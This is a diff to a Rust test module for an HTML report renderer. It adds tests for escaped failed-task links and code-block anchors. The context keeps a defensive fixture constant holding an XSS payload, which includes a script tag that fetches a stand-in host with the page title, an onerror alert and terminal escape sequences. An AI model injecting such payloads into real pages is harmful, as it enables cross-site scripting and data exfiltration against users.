@@ -201,6 +201,27 @@ mod tests {
     const HOSTILE: &str = "</script></pre><script>fetch('http://example.org/'+document.title)</script><img src=x onerror=alert(1)>\u{1b}]52;c;\u{202e}";
 
     #[test]
+    fn every_failed_task_is_a_link_to_what_the_page_shows_of_it() {
+        let link = |number: usize| (format!("t{number}<"), Some(format!("failed-{number}")));
+        let mut links: Vec<_> = (1..5).map(link).collect();
+        links.push(("no text".to_owned(), None));
+        let few = cell_html(&CellValue::Links(links[..1].to_vec()));
+        assert_eq!(few, "<a href=\"#failed-1\">t1&lt;</a>");
+        let many = cell_html(&CellValue::Links(links));
+        assert!(
+            many.starts_with("<details><summary>5 tasks</summary><a href"),
+            "{many}"
+        );
+        assert!(many.ends_with(", no text</details>"), "{many}");
+        let code = Block::Code {
+            name: "t1".to_owned(),
+            text: "x".to_owned(),
+            anchor: Some("failed-1".to_owned()),
+        };
+        assert!(block_html(&code).contains("<pre id=\"failed-1\">x</pre>"));
+    }
+
+    #[test]
     fn hostile_text_opens_no_tag_anywhere() {
         let mut table = Table::new(HOSTILE, vec![Head::left(HOSTILE)], Provenance::new(HOSTILE));
         table.row(vec![CellValue::Text(HOSTILE.into())]);
@@ -220,6 +241,7 @@ mod tests {
         let code = Block::Code {
             name: HOSTILE.into(),
             text: HOSTILE.into(),
+            anchor: None,
         };
         let page = ReportPage {
             title: HOSTILE.into(),
